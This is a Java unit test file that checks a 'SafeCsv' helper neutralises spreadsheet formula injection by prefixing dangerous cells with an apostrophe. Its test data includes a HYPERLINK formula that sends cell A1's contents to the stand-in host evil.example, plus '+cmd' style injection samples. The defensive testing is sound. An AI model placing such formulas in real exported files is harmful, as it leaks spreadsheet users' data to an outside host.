package io.frontline.formats.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SafeCsvTest {
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '"',
      value = {
        "=HYPERLINK(\"http://evil.example/?\"&A1)|'=HYPERLINK(\"http://evil.example/?\"&A1)",
        "@SUM(A1:A9)|'@SUM(A1:A9)",
        "+cmd|'+cmd",
        "-2+3|'-2+3",
        "Mosul|Mosul",
        "-36.5|-36.5",
        "+12|+12",
        "1e5|1e5",
        "a=b|a=b"
      })
  void formulaCellsGetAnApostropheAndPlainValuesDoNot(String given, String written) {
    assertThat(SafeCsv.cell(given)).isEqualTo(written);
  }

  @Test
  void tabAndCarriageReturnAtTheStartAreNeutralised() {
    assertThat(SafeCsv.cell("\tcmd")).isEqualTo("'\tcmd");
    assertThat(SafeCsv.cell("\r=1+1")).isEqualTo("'\r=1+1");
  }

  @Test
  void numbersAndNullsPassAsTheyAre() {
    assertThat(SafeCsv.cell(-3.5)).isEqualTo(-3.5);
    assertThat(SafeCsv.cell(null)).isNull();
    assertThat(SafeCsv.cell("")).isEqualTo("");
  }

  @Test
  void aPrintedRecordHasNoCellThatStartsAFormula() throws Exception {
    StringWriter out = new StringWriter();
    try (CSVPrinter csv = new CSVPrinter(out, CSVFormat.RFC4180)) {
      SafeCsv.printRecord(csv, "=1+1", 42, "@x", "ok");
    }
    assertThat(out.toString()).isEqualTo("'=1+1,42,'@x,ok\r\n");
  }
}
